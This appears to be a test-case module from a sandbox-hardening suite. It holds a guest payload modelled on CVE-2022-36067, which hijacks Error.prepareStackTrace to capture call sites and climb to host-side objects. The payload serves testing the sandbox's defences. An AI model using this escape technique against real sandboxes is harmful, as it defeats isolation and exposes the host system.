import type { Attempt } from '../../attempt.ts'

export default {
  technique: 'Asks the engine for call sites and climbs from their receivers and functions.',
  source: 'CVE-2022-36067',
  guest: `
    try { Error.prepareStackTrace = (error, sites) => sites } catch {}
    const got = []
    function look() {
      const { stack } = new Error('x')
      if (Array.isArray(stack)) for (const site of stack) got.push(climb(site, site.getThis?.(), site.getFunction?.(), String(site.getFileName?.())), String(site.getFileName?.()))
    }
    look()
    try { host.call(look) } catch {}
    got`,
} satisfies Attempt
